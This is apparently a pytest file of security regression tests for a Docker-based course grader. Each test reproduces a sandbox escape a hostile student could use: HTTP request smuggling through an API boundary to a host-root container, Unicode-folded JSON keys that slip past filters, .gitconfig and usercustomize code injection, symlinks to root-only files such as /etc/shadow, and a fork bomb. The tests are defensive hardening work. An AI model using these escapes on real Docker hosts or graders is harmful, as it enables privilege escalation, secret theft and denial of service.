"""Escapes found by attacking `docker-grader run` as a hostile student would.

Each test shows one way past a layer (the CLI sandbox, the API boundary or the lab's limits)
and asserts the safe behaviour, so that it fails while the escape is open and passes once it
is closed. The raw-HTTP tests speak to a boundary in front of the tests' own dockerd, as any
client that runs in the sandbox could; the end-to-end tests are submissions graded by
``runner.run`` in the hostile lab of tests/test_sandbox.py, with its canary and neighbour.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import docker
import pytest

from checks import runner
from checks.boundary import Boundary, Context, Limits, container_counter
from checks.lab import REGISTRY, Lab, Resources
from checks.report import WRITERS
from checks.sandbox import Sandbox

from test_boundary_http import daemon_state, exchange, post_json
from test_sandbox import canary, complete_documents, labs, neighbour_state, probe_course, reset  # noqa: F401 (fixtures)

LONG_S = "\u017f"  # LATIN SMALL LETTER LONG S: Go's encoding/json folds it to "S"; Python's str.lower() leaves it


# --- helpers -------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def boundary(lab):
    """The API boundary in front of the tests' own dockerd, with the run's default limits."""
    folder = Path(tempfile.mkdtemp(prefix="dga-", dir="/tmp"))
    context = Context(REGISTRY, Limits(), container_counter(lab.socket))
    with Boundary(lab.socket, folder / "boundary.sock", context) as serving:
        yield serving
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def alpine(daemon):
    daemon.api.pull("alpine:3.14")
    yield daemon.api
    for container in daemon.api.containers(all=True):
        daemon.api.remove_container(container["Id"], force=True, v=True)
    daemon.api.prune_volumes()


def send(boundary: Boundary, raw: bytes, wait: float = 5.0) -> bytes:
    """Sends raw bytes and reads what comes back until the peer closes or ``wait`` seconds pass."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(wait)
        conn.connect(str(boundary.listen))
        data = b""
        try:
            conn.sendall(raw)
            while chunk := conn.recv(65536):
                data += chunk
        except OSError:  # a timeout (the connection was kept open), a reset, a broken pipe
            pass
    return data


def body_of(value) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def inspect_or_none(api: docker.APIClient, name: str) -> dict | None:
    try:
        return api.inspect_container(name)
    except docker.errors.NotFound:
        return None


def grade(folder: Path, files: dict[str, str], lines: list[str], hostile, course):
    folder.mkdir()
    (folder / "probe.dc").write_text("\n".join(lines) + "\n")
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content)
    return runner.run(folder, course, lab=hostile, budget=runner.Budget(command=20, exercise=60, run=90))


def outputs(report) -> str:
    return "\n".join(run.output for run in report.exercises[0].commands)


# --- the CLI sandbox runs code that the submission carries ------------------------------------
def test_the_sandbox_runs_no_python_the_submission_carries(labs, probe_course, tmp_path):
    """HOME is the submission's copy (/work), and docker-compose v1 is a Python program started
    without -s or PYTHONNOUSERSITE. So Python imports ``usercustomize`` (and runs ``.pth`` lines)
    from the submission's ``.local/lib/python3.X/site-packages``: any Python the student writes
    runs inside the sandbox, although /work is mounted noexec. That code can then speak raw HTTP
    to the boundary's socket (see the tests below) or try the kernel from the sandbox.
    Safe: the sandbox's Python ignores the user site (PYTHONNOUSERSITE=1 / ``-s``, or a HOME
    that is not the submission)."""
    hostile, _ = labs
    reset(hostile)
    marker = "ran-" + secrets.token_hex(8)
    code = f"import sys\nprint('{marker}', file=sys.stderr)\n"
    files = {f".local/lib/python3.{minor}/site-packages/usercustomize.py": code for minor in range(7, 14)}
    report = grade(tmp_path / "submission", files, ["docker-compose version"], hostile, probe_course)
    assert report.error is None
    assert marker not in outputs(report)
    complete_documents(report)


def test_the_sandbox_runs_no_command_from_the_submissions_gitconfig(labs, probe_course, tmp_path):
    """``docker build git@host:repo.git`` makes the docker CLI run ``git clone`` in the sandbox,
    and git reads $HOME/.gitconfig, which is the submission's own file: ``core.sshCommand`` (or an
    ``ext::`` URL with ``protocol.ext.allow``) runs any program of the system, e.g. python3 with
    a script from the submission. Only the docker CLI is needed, so the line policy lets it by.
    Safe: git in the sandbox reads no configuration from the submission (GIT_CONFIG_GLOBAL=/dev/null,
    GIT_CONFIG_NOSYSTEM=1, or a HOME outside /work), or git URLs are not built from at all."""
    hostile, _ = labs
    reset(hostile)
    marker = "ran-" + secrets.token_hex(8)
    files = {".gitconfig": f"[core]\n\tsshCommand = echo {marker} >&2; false\n"}
    report = grade(tmp_path / "submission", files, ["docker build -t x git@github.com:a/b.git"], hostile, probe_course)
    assert report.error is None
    assert marker not in outputs(report)
    complete_documents(report)


# --- the API boundary: a second request smuggled behind an upgrade ------------------------------
SMUGGLED_ROOT = {
    "Image": "alpine:3.14",
    "Cmd": ["sh", "-c", "cat /h/secret; echo planted > /h/planted"],
    "HostConfig": {"UsernsMode": "host", "Binds": ["/tmp:/h"]},
}


def smuggle(first_path: str, second: bytes) -> bytes:
    """A request the boundary allows, with ``Upgrade: tcp``, and a second request right behind it."""
    return (f"POST {first_path} HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
            "Upgrade: tcp\r\nConnection: Upgrade\r\nContent-Length: 16\r\n\r\n").encode() + b'{"Detach": true}' + second


def test_an_upgrade_request_that_is_not_upgraded_carries_no_second_request(boundary, alpine, lab):
    """On a hijack route (``/exec/ID/start``, ``/containers/ID/attach``) the boundary forwards
    ``Connection: Upgrade`` instead of ``Connection: close``, then copies the client's bytes to
    dockerd unread. When dockerd answers without upgrading (no such exec instance: 404; or
    ``{"Detach": true}``: 200), the connection stays a keep-alive HTTP connection, and dockerd
    serves the next request on it, which the boundary never judged. Here that request creates a
    container with ``UsernsMode: host`` and a bind mount of the host's /tmp: root on the host.
    Safe: nothing sent after the first request reaches dockerd unless dockerd switched protocols
    (101), and nothing that the boundary did not judge is ever served."""
    before = daemon_state(lab)
    second = post_json("/v1.41/containers/create?name=smuggled-root", body_of(SMUGGLED_ROOT))
    send(boundary, smuggle("/v1.41/exec/no-such-exec/start", second))
    assert inspect_or_none(alpine, "smuggled-root") is None
    assert daemon_state(lab) == before


def test_a_submission_gets_root_on_the_host_through_the_boundary(labs, canary, probe_course, tmp_path):  # noqa: F811
    """The two above together, as a student hands them in: a .gitconfig whose ``core.sshCommand``
    runs a Python script of the submission, which smuggles a ``containers/create`` with
    ``UsernsMode: host`` and a bind mount of a root-only host folder behind an upgrade request;
    the next line, ``docker start -a escape``, goes through the boundary as any start does.
    Measured: the container runs as the host's root, prints the root-only secret into the
    report and writes a root-owned file into the host folder.
    Safe: the canary is neither read nor written, whatever the submission carries."""
    hostile, neighbour = labs
    reset(hostile)
    before = neighbour_state(neighbour)
    attack = f"""
import json, socket
body = json.dumps({{"Image": "alpine:3.14", "Cmd": ["sh", "-c", "cat /h/secret; echo planted > /h/planted"],
                   "HostConfig": {{"UsernsMode": "host", "Binds": ["{canary.folder}:/h"]}}}}).encode()
second = (b"POST /v1.41/containers/create?name=escape HTTP/1.1\\r\\nHost: d\\r\\nContent-Type: application/json\\r\\n"
          b"Content-Length: %d\\r\\n\\r\\n" % len(body)) + body
first = (b"POST /v1.41/exec/none/start HTTP/1.1\\r\\nHost: d\\r\\nContent-Type: application/json\\r\\n"
         b"Upgrade: tcp\\r\\nConnection: Upgrade\\r\\nContent-Length: 16\\r\\n\\r\\n" b'{{"Detach": true}}')
conn = socket.socket(socket.AF_UNIX)
conn.settimeout(5)
conn.connect("/run/docker.sock")
conn.sendall(first + second)
try:
    while conn.recv(65536):
        pass
except OSError:
    pass
raise SystemExit(1)
"""
    files = {"attack.py": attack, ".gitconfig": "[core]\n\tsshCommand = python3 /work/attack.py\n"}
    lines = ["docker build -t x git@github.com:a/b.git", "docker start -a escape"]
    try:
        report = grade(tmp_path / "submission", files, lines, hostile, probe_course)
        assert report.error is None
        assert canary.token not in outputs(report)
        assert canary.state() == canary.before
    finally:
        canary.restore()
    assert neighbour_state(neighbour) == before
    complete_documents(report)


# --- the API boundary: JSON keys that Go folds and Python does not -----------------------------
def test_a_folded_key_cannot_hide_a_volume_drivers_options(boundary, alpine, lab):
    """Go's encoding/json matches object keys case-insensitively with Unicode folding, so
    ``"Option\u017f"`` (long s) fills ``Options``; the boundary's duplicate and spelling checks use
    ``str.lower()``, which leaves "\u017f" alone, and ``mounts()`` reads only ``.get("Options")``.
    A ``--mount type=volume`` whose driver options hide behind that key is allowed, and dockerd's
    local driver bind-mounts any host path (or mounts a device, or the host's /proc). Measured:
    a container read a world-readable file of the host's /tmp and wrote a file into it (as the
    remapped root, uid 100000). The same hidden key carries any other option set the boundary
    refuses when it can see it (``type=ext4,device=/dev/...``, ``type=proc``, ``type=nfs``).
    Safe: the request is refused, or at least no container gets a volume with driver options."""
    mount = {"Type": "volume", "Source": "folded", "Target": "/h",
             "VolumeOptions": {"DriverConfig": {"Name": "local", f"Option{LONG_S}": {"type": "none", "o": "bind", "device": "/tmp"}}}}
    body = {"Image": "alpine:3.14", "Cmd": ["true"], "HostConfig": {"Mounts": [mount]}}
    exchange(boundary, post_json("/v1.41/containers/create?name=folded-mount", body_of(body)))
    created = inspect_or_none(alpine, "folded-mount")
    assert created is None or not any(
        (m.get("VolumeOptions") or {}).get("DriverConfig", {}).get("Options") for m in created["HostConfig"]["Mounts"] or ()
    ), created["HostConfig"]["Mounts"]
    volumes = alpine.volumes()["Volumes"] or []
    assert not [v for v in volumes if v["Name"] == "folded" and v.get("Options")]


def test_a_folded_key_cannot_drop_the_limits_the_boundary_put_in(boundary, alpine, lab):
    """The boundary writes the lab's limits into ``HostConfig`` (PidsLimit, a json-file log with
    max-size and max-file) and re-encodes the body; a key ``"Ho\u017ftConfig": null`` after it is
    an unknown field with a zero value to the boundary, and to Go the same field as HostConfig,
    decoded last: the container is created with no HostConfig at all. Measured: PidsLimit null,
    LogConfig ``{"Type": "json-file", "Config": {}}`` (an unbounded log on the lab's RAM-backed
    data-root). Safe: whatever is created carries the lab's limits."""
    body = {"Image": "alpine:3.14", "Cmd": ["true"], "HostConfig": {}, f"Ho{LONG_S}tConfig": None}
    exchange(boundary, post_json("/v1.41/containers/create?name=folded-limits", body_of(body)))
    created = inspect_or_none(alpine, "folded-limits")
    if created is not None:
        host_config = created["HostConfig"]
        assert host_config["PidsLimit"] == Limits().pids
        assert host_config["LogConfig"]["Config"].get("max-size") == Limits().log_size


# --- the API boundary: a query that Go reads differently -------------------------------------
def test_an_import_cannot_turn_into_a_pull_from_anywhere(boundary, alpine):
    """``image_create`` returns early when ``fromSrc`` is ``-`` (an import from the CLI), but
    dockerd pulls whenever ``fromImage`` is set, whatever ``fromSrc`` says. So
    ``/images/create?fromSrc=-&fromImage=HOST:PORT/x`` pulls from any registry: the rule that
    pulls come only from the lab's registry or Docker Hub's mirror does not hold. (The lab's
    network namespace still keeps the pull from leaving the lab.)
    Safe: refused, as a pull from that registry alone is."""
    status, body = exchange(boundary, b"POST /v1.41/images/create?fromSrc=-&fromImage=127.0.0.1:5001/x&tag=1 HTTP/1.1\r\n"
                                      b"Host: d\r\nContent-Length: 0\r\n\r\n")
    assert status == 403, body


# --- limits the lab sets, which a build does not get -----------------------------------------
def test_a_builds_containers_are_held_by_the_labs_cgroup(labs, probe_course, tmp_path):
    """The boundary puts the per-container PidsLimit into ``containers/create`` only. The classic
    builder's RUN containers are made inside dockerd, never through that route, and dockerd 20.10
    has no default per-container pids limit: each runs with its own ``pids.max`` = max.
    Safe: a RUN step runs inside the lab's cgroup parent, whose pids, memory and CPU caps hold for
    every container of the lab together."""
    hostile, _ = labs
    reset(hostile)
    files = {"Dockerfile": "FROM alpine:3.14\nRUN grep pids /proc/self/cgroup | sed 's/^/cgroup=/'\n"}
    report = grade(tmp_path / "submission", files, ["docker build --no-cache -t pids ."], hostile, probe_course)
    assert report.error is None
    shown = [line for line in outputs(report).splitlines() if line.startswith("cgroup=")]
    assert shown and all(f":/{hostile.tag}/" in line for line in shown), shown
    assert Path(f"/sys/fs/cgroup/pids/{hostile.tag}/pids.max").read_text().strip() == str(hostile.resources.pids)


# --- the grader itself reads the submission as root ------------------------------------------
def test_a_command_file_that_is_a_symlink_reads_no_host_file(labs, canary, probe_course, tmp_path):  # noqa: F811
    """``submission.find_files`` takes any name that ``is_file()`` (which follows symlinks) and
    ``read_file`` reads it as root, outside the sandbox; the sandbox's own copy skips symlinks,
    but the command files are read from the original folder. A git repository carries symlinks,
    so ``probe.dc -> /etc/shadow`` (or /root/.ssh/id_rsa, a CI credentials file...) is read by
    root, and every line is refused by the line policy *with its text*: the first word goes into
    the refusal message and each line into the report. Measured: the canary's root-only secret
    appears in the report. (A symlink to /proc/kcore or a huge file would be read whole.)
    Safe: a command file that is a symlink is not followed (or not read outside the sandbox),
    and the secret appears in no document of the report."""
    hostile, _ = labs
    reset(hostile)
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "probe.dc").symlink_to(canary.folder / "secret")
    report = runner.run(folder, probe_course, lab=hostile, budget=runner.Budget(command=20, exercise=60, run=90))
    texts = [run.text + run.output for run in report.exercises[0].commands] if report.exercises else []
    assert all(canary.token not in text for text in texts)
    for name, write in WRITERS.items():
        for lang in ("en", "pt-BR"):
            assert canary.token not in write(report, lang), name
    assert canary.state() == canary.before


# --- the CLI sandbox on its own --------------------------------------------------------------
def run_in_sandbox(code: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """Python code run exactly where the docker CLI runs: the sandbox's bubblewrap line, its user."""
    scratch = Path(tempfile.mkdtemp(prefix="dga-sandbox-", dir="/tmp"))  # searchable by the sandbox's user
    os.chmod(scratch, 0o711)
    (scratch / "submission").mkdir()
    (scratch / "socket").touch()
    sandbox = Sandbox(scratch / "sandbox", scratch / "socket")
    sandbox.prepare(scratch / "submission")
    try:
        argv = sandbox.command(("docker",))  # as the grader starts a command: cgroups joined, user dropped
        program = len(argv) - argv[::-1].index("--")  # after bubblewrap's own "--"
        argv = argv[:program] + ["/usr/bin/python3", "-c", code]
        return subprocess.run(argv, capture_output=True, text=True, cwd="/", timeout=timeout)
    finally:
        sandbox.close()
        shutil.rmtree(scratch, ignore_errors=True)


def test_the_sandbox_lets_no_user_namespace_be_made():
    """Whatever runs in the sandbox (and code does run there: see the tests above) may call
    ``unshare(CLONE_NEWUSER | CLONE_NEWNET)``: bubblewrap is run without ``--disable-userns``, so
    a sandboxed process gets every capability in a user namespace of its own, and with it the
    kernel's namespaced attack surface (nf_tables, overlayfs, ...), a classic way from an
    unprivileged sandbox to root on the host. Measured: unshare returned 0.
    Safe: creating a user namespace inside the sandbox fails."""
    done = run_in_sandbox("import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
                          "print('unshare', libc.unshare(0x10000000 | 0x40000000))")
    assert "unshare" in done.stdout, done.stderr
    assert "unshare 0" not in done.stdout


SANDBOX_HOG = """
import os, time
children = 0
for _ in range(4096):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    children += 1
print("children", children, flush=True)
try:
    block = bytearray(4 << 30)
    block[::4096] = b"x" * len(block[::4096])
    print("allocated 4 GiB")
except MemoryError:
    print("no memory")
"""


def test_the_sandbox_has_limits_of_its_own():
    """The lab caps its containers (pids 1024, 2 GiB, 1.5 CPUs together), but the CLI sandbox runs
    in the grader's own cgroup with no pids, memory or CPU limit and no RLIMIT_NPROC below the
    host's: code that runs there (see the tests above) can fork 4,096 processes and touch 4 GiB.
    This machine's kernel.pid_max is 32,768, shared by the whole host: a fork bomb in the sandbox
    stops every process on the host (other labs, the grader, CI) from starting one, for as long
    as the command's timeout, once per line; memory runs the host into its OOM killer.
    Safe: the sandbox runs under limits of its own (e.g. a pids and memory cgroup), well below
    the host's."""
    done = run_in_sandbox(SANDBOX_HOG)
    assert "children" in done.stdout, done.stderr
    assert "children 4096" not in done.stdout
    assert "allocated 4 GiB" not in done.stdout


# --- a run that ends without a report -------------------------------------------------------
def test_a_deep_submission_tree_still_yields_a_complete_report(labs, probe_course):
    """``Sandbox.prepare`` copies the submission with ``_copy_tree``, one Python call per folder
    level, and ``runner.run`` only turns GraderErrors into a report. A submission (a git
    repository can hold one) with about 1,100 nested folders makes the copy raise
    RecursionError: ``docker-grader run`` ends with a traceback, exit code 1 and no document at
    all, whatever --format and --output asked for (an OSError from a path too long, or a
    tmpfs out of inodes, ends the same way).
    Safe: grading completes (the copy is bounded, or its failure is a GraderError), with a
    complete document."""
    hostile, _ = labs
    reset(hostile)
    folder = Path(tempfile.mkdtemp(prefix="dga-deep-", dir="/tmp"))
    (folder / "probe.dc").write_text("docker version\n")
    descriptor = os.open(folder, os.O_RDONLY)
    try:
        for _ in range(1100):  # relative steps, so that no single path grows long
            os.mkdir("d", dir_fd=descriptor)
            inner = os.open("d", os.O_RDONLY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = inner
    finally:
        os.close(descriptor)
    report = crash = None
    try:
        report = runner.run(folder, probe_course, lab=hostile, budget=runner.Budget(command=20, exercise=60, run=90))
    except (RecursionError, OSError) as error:
        crash = type(error).__name__
    finally:
        subprocess.run(["rm", "-rf", str(folder)], check=False)  # shutil.rmtree recurses too
    assert crash is None, f"runner.run raised {crash}: no report at all"
    complete_documents(report)


# --- the lab's registry writes to the host's disk without a bound ----------------------------
def folder_bytes(folder: Path) -> int:
    return sum(path.stat().st_size for path in folder.rglob("*") if path.is_file() and not path.is_symlink())


def test_pushes_to_the_labs_registry_stay_within_the_labs_storage(probe_course, tmp_path):
    """The lab's data-root is a tmpfs of bounded size, but its registry (which a submission may
    push to: ``docker push <lab registry>/...`` is allowed) keeps its blobs in the lab folder on
    the host's disk, with no bound. Build a layer of random bytes, push it, remove it, again:
    each round adds the layer to the host's disk while the data-root stays small. Measured:
    1.2 GB in the registry of a lab whose data-root is capped at 1 GB, in 53 s; a 20-minute run
    budget writes tens of GB, and a few runs at once fill the disk that CI shares.
    Safe: what the registry stores is bounded by the lab's storage size."""
    scratch = Path(tempfile.mkdtemp(prefix="dga-registry-", dir="/tmp"))
    lab = Lab("filler", scratch / "lab", resources=Resources(data_size="384m"))
    lab.up()
    try:
        folder = tmp_path / "submission"
        folder.mkdir()
        (folder / "Dockerfile").write_text("FROM alpine:3.14\nRUN head -c 120m /dev/urandom > /blob\n")
        lines = []
        for round_ in range(4):
            image = f"{REGISTRY}/fill:{round_}"
            lines += [f"docker build --no-cache -q -t {image} .", f"docker push -q {image}", f"docker rmi {image}"]
        (folder / "probe.dc").write_text("\n".join(lines) + "\n")
        report = runner.run(folder, probe_course, lab=lab, budget=runner.Budget(command=60, exercise=150, run=150))
        stored = folder_bytes(lab.root / "registry")
    finally:
        lab.down()
        shutil.rmtree(scratch, ignore_errors=True)
    assert report.error is None
    assert stored <= 384 * 1024**2, f"{stored / 1024**2:.0f} MiB in the registry, outside the 384 MiB data-root"



# --- the grader's own requests run the student's images without the lab's limits -------------
def test_a_starting_state_runs_no_container_without_the_labs_limits(labs, tmp_path):
    """Starting states go to dockerd directly (as they must), so the containers they run get none
    of the per-container limits that the boundary puts in: no PidsLimit and a json-file log with
    no max-size. What they run is the student's choice: re-tag ``hello-world`` in one exercise
    (``docker commit --change 'CMD [...]' base hello-world:latest``) and the next exercise's
    starting state runs that command, for RUN_WAIT seconds, with only the lab-wide caps over it
    (a fork bomb up to the lab's 1024 pids, a log flood at 100 MB/s into the RAM-backed data-root).
    Safe: a container the starting state runs carries the same limits as any of the student's."""
    from test_sandbox import course

    hostile, _ = labs
    reset(hostile)
    (tmp_path / "run-hello-world.dc").write_text(
        "docker run --name base alpine:3.14 true\n"
        "docker commit --change 'CMD [\"cat\", \"/sys/fs/cgroup/pids/pids.max\"]' base hello-world:latest\n"
    )
    chosen = [e for e in course() if e.id in ("run-hello-world", "remove-containers")]
    report = runner.run(tmp_path, chosen, lab=hostile, budget=runner.Budget(command=20, exercise=60, run=120))
    assert report.error is None, report.error.render("en")
    api = docker.APIClient(base_url=hostile.host, version="auto")
    try:
        started = [api.inspect_container(c["Id"]) for c in api.containers(all=True) if c["Names"] != ["/base"]]
    finally:
        api.close()
    assert started, "the starting state ran no container"
    for details in started:
        assert details["HostConfig"]["PidsLimit"] == Limits().pids, details["Name"]
        assert details["HostConfig"]["LogConfig"]["Config"].get("max-size") == Limits().log_size, details["Name"]

# --- findings without a test of their own ----------------------------------------------------
# - Other boundaries are reachable from a host-path mount. With the folded-key mount above, a
#   container (as uid 100000) sees the host's /tmp, lists the dg-run-* folders (/tmp is
#   world-readable) and can connect to every other run's boundary socket
#   (<scratch>/api/docker.sock is 0666 behind 0711 folders): it can drive, or through the upgrade
#   smuggling take over, another student's lab while it is graded. The same socket is open to
#   any local user of the grading host while a run lasts.
# - More ways to run code in the sandbox, of the same kind as the .gitconfig one: $HOME/.ssh/config
#   (ProxyCommand, run by ssh for `docker build git@...`), $HOME/.config/git/config, and .pth
#   files in the Python user site (docker-compose).
# - Markdown report (low): the first word of a refused line reaches the failed-check detail of
#   the Markdown summary with only "|" escaped; the line policy refuses ( ) < > so links, images
#   and HTML cannot get through, but emphasis and code spans (**17/17-FULL-MARKS**) can.
# - `docker info` in a submission shows the host's name, kernel, CPU and memory, the lab's
#   data-root path, the HTTP proxy port dockerd uses, and daemon errors show the scratch folder
#   path (<scratch>/lab/exec/...): the names needed for the cross-run attack above.
# - The data-root tmpfs (4 GiB by default) holds what dockerd itself writes (pulled, loaded,
#   committed and built layers, json logs): that memory is charged to dockerd's cgroup, not to
#   the lab's 2 GiB cap, so each concurrent run may pin up to 4 GiB + 2 GiB of the host's RAM.
# - Leftovers: a lab whose root's parent folder is not searchable by others (0700, as
#   tempfile.mkdtemp makes it: the test fixtures' labs) makes dockerd, under --userns-remap,
#   create <parent>.100000.100000/lab.100000.100000/exec.100000.100000/... owned by uid 100000
#   beside it, which Lab.down() never removes (one per lab, in /tmp). Runs chmod their scratch
#   folder 0711 and are not affected.
# - The starting state, the snapshot and the grading of logs have no time budget: only the
#   commands do. With the folded "HostConfig": null above (no log max-size), a check that scans a
#   container's logs streams up to the whole data-root (4 GiB) once per check.
